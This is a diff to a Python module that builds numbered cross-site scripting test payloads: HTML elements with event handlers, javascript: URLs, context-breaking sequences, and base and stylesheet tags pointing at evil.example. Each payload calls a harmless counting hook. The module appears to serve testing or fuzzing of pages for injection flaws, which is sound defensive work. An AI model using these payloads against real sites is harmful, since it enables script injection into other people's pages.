@@ -1,10 +1,13 @@
 """What could run in a page that writes it as it came: elements, and ways out of where it stands."""
 
-from collections.abc import Sequence
+import re
+from collections.abc import Iterable, Sequence
 
-#: The page counts how often this is called.
-RUN = "voicebox_ran"
-_CALL = f"{RUN}(1)"
+#: The page counts how often this is called, and by which payload: each calls it with its number.
+HOOK = "xss"
+#: Where the number of a payload stands.
+_HERE = "@"
+_CALL = f"{HOOK}({_HERE})"
 ELEMENTS = (
     f"<script>{_CALL}</script>",
     f"<img src=x onerror={_CALL}>",
@@ -20,11 +23,11 @@ ELEMENTS = (
     f"<math href=javascript:{_CALL}>x</math>",
     f"<style onload={_CALL}>*{{}}</style>",
     f"<meta http-equiv=refresh content=0;url=javascript:{_CALL}>",
-    "<base href=//evil.example/>",
+    f"<base href=//evil.example/{_CALL}/>",
     f"<form><button formaction=javascript:{_CALL}>x</form>",
     f"<object data=javascript:{_CALL}>",
     f"<embed src=javascript:{_CALL}>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
+    f"<link rel=stylesheet href=//evil.example/{_CALL}.css>",
     f"<p style=animation-name:x onanimationstart={_CALL}>",
     f"x onmouseover={_CALL} onfocus={_CALL} autofocus x",
     f"javascript:{_CALL}",
@@ -54,6 +57,7 @@ WAYS_OUT = (
     "\x0b",
     "</noscript>",
 )
+_NUMBER = re.compile(rf"{HOOK}\((\d+)\)")
 
 
 def payloads(n: int) -> Sequence[str]:
@@ -63,4 +67,25 @@ def payloads(n: int) -> Sequence[str]:
         for turn in range(len(WAYS_OUT))
         for number, element in enumerate(ELEMENTS)
     ]
-    return found[:n]
+    return [one.replace(_HERE, str(number)) for number, one in enumerate(found[:n])]
+
+
+def numbers_in(text: str) -> frozenset[int]:
+    """Return the numbers of the payloads that a text holds, whole or in part."""
+    return frozenset(int(number) for number in _NUMBER.findall(text))
+
+
+def packs(texts: Iterable[str], room: int) -> Sequence[Sequence[str]]:
+    """Return the texts in their order, in groups that fit into so many characters, spaces between.
+
+    What does not fit by itself is a group of its own.
+    """
+    found: list[list[str]] = []
+    left = -1
+    for text in texts:
+        if len(text) + 1 > left:
+            found.append([])
+            left = room + 1
+        found[-1].append(text)
+        left -= len(text) + 1
+    return found
